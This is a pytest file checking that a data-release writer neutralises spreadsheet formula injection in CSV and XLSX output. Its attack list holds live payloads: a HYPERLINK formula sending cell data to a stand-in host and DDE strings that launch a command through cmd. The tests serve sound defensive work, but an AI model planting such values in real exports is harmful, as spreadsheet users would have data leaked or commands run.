"""Attack 12: a text that a spreadsheet runs as a formula, put into the data by whoever named a product."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pyarrow as pa
import pyarrow.csv
import pytest

from afluente.products.release.formats.write import write_format

ATTACKS = [
    '=HYPERLINK("http://mau.example/?"&A1;"clique")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
STARTS = ("=", "+", "-", "@", "\t", "\r")


def table() -> pa.Table:
    return pa.table({"produto": ATTACKS, "valor": pa.array([-1.5] * len(ATTACKS))})


def test_a_plain_writer_leaves_formulas_that_a_spreadsheet_runs() -> None:
    sink = io.BytesIO()
    pyarrow.csv.write_csv(table(), sink)
    cells = [row["produto"] for row in csv.DictReader(io.StringIO(sink.getvalue().decode(), newline=""))]
    assert all(cell.startswith(STARTS) for cell in cells)


def test_no_text_of_a_released_csv_starts_as_a_formula_and_numbers_stay_numbers(tmp_path: Path) -> None:
    write_format(tmp_path / "x.csv", table(), "csv")
    text = (tmp_path / "x.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(ATTACKS)
    assert not [row for row in rows if row["produto"].startswith(STARTS)]
    assert {float(row["valor"]) for row in rows} == {-1.5}


@pytest.mark.parametrize("form", ["xlsx"])
def test_no_cell_of_a_released_workbook_is_a_formula(tmp_path: Path, form: str) -> None:
    import openpyxl

    write_format(tmp_path / f"x.{form}", table(), form)
    book = openpyxl.load_workbook(tmp_path / f"x.{form}")
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
    book.close()
    assert "f" not in kinds
